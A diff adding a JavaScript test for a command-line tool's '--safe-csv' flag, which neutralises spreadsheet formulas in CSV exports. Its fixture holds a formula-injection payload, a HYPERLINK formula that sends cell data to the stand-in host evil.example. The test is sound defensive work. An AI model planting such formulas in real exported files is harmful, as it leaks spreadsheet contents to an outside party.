@@ -95,3 +95,25 @@ describe('data for other programs', () => {
     expect(JSON.parse(ending.stdout)[0]).toMatchObject({ region_name: HOSTILE });
   });
 });
+
+describe('--safe-csv', () => {
+  const FORMULA = '=HYPERLINK("http://evil.example/?"&A1)';
+
+  it('puts an apostrophe before names that a spreadsheet takes for formulas, and is for CSV only', async () => {
+    const [own, out] = [join(folder, 'formulas.csv'), join(folder, 'out.csv')];
+    writeFileSync(own, `station,name,day,value\nS2,"${FORMULA.replaceAll('"', '""')}",2020-01-01,-5`);
+    const imported = await runCommand(inStore('import', 'csv', own, '--mapping', mapping));
+    expect(imported.code).toBe(0);
+    const series = ['--item', HOSTILE, '--metric', 'Temperature', '--region', FORMULA, '--names'];
+    const { stdout } = await runCommand(inStore('points', ...series));
+    expect(stdout).toContain(`,"${FORMULA.replaceAll('"', '""')}",`);
+    const safe = await runCommand(inStore('points', ...series, '--safe-csv', '--out', out));
+    expect(safe.code).toBe(0);
+    expect(readFileSync(out, 'utf8')).toContain(`,"'${FORMULA.replaceAll('"', '""')}",`);
+    expect(readFileSync(out, 'utf8')).toContain(',-5,');
+    const parquet = await runCommand(
+      inStore('points', ...series, '--safe-csv', '--format', 'parquet', '--out', out),
+    );
+    expect(parquet).toMatchObject({ code: 2, stderr: expect.stringContaining('--safe-csv is for CSV') });
+  });
+});
